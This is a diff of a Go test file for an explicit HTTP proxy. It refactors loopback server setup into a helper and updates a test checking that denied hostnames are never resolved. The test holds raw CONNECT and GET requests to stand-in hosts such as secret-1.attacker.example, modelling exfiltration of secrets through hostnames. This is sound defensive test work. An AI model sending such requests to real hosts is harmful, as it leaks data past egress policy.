@@ -594,6 +594,14 @@ func loopbackExplicitDeps(t testing.TB, policyFmt string, config func(*Config), 
 	if err != nil {
 		t.Fatal(err)
 	}
+	return serveExplicitLoopback(t, p), plainPort, tlsPort, caPool, p
+}
+
+// serveExplicitLoopback serves p's explicit proxy on a loopback port
+// until the test ends (then closes p and waits for the server), and
+// returns its address.
+func serveExplicitLoopback(t testing.TB, p *Proxy) string {
+	t.Helper()
 	ln, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
 		t.Fatal(err)
@@ -601,7 +609,7 @@ func loopbackExplicitDeps(t testing.TB, policyFmt string, config func(*Config), 
 	done := make(chan struct{})
 	go func() { p.ServeExplicit(ln); close(done) }()
 	t.Cleanup(func() { p.Close(); <-done })
-	return ln.Addr().String(), plainPort, tlsPort, caPool, p
+	return ln.Addr().String()
 }
 
 // connectDocs dials the explicit proxy at addr (loopbackExplicit's) and
@@ -893,19 +901,13 @@ func TestExplicitDeniedNameNotResolved(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	done := make(chan struct{})
-	go func() { p.ServeExplicit(ln); close(done) }()
-	defer func() { p.Close(); <-done }()
+	addr := serveExplicitLoopback(t, p)
 	for _, raw := range []string{
 		"CONNECT secret-1.attacker.example:443 HTTP/1.1\r\nHost: secret-1.attacker.example:443\r\n\r\n",
 		"GET http://secret-2.attacker.example/ HTTP/1.1\r\nHost: secret-2.attacker.example\r\n\r\n",
 		"CONNECT www.allowed.test:22 HTTP/1.1\r\nHost: www.allowed.test:22\r\n\r\n",
 	} {
-		c, err := net.Dial("tcp", ln.Addr().String())
+		c, err := net.Dial("tcp", addr)
 		if err != nil {
 			t.Fatal(err)
 		}
